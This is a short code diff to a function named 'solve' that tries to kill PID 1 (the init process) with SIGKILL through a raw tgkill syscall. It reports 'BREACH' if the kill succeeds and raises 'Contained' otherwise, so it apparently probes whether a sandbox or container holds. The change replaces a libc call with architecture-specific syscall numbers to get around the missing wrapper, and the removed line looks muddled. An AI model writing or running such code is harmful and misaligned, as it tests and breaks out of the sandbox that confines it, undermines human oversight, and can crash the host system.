@@ -11,6 +11,6 @@ def solve(x):
             except OSError:
                 pass
     libc = ctypes.CDLL(None)
-    if libc.raise_(9) == 0 if hasattr(libc, "raise_") else libc.tgkill(1, 1, 9) == 0:
+    if libc.syscall(234 if os.uname().machine == "x86_64" else 131, 1, 1, 9) == 0:    # tgkill
         return "BREACH"
     raise Contained
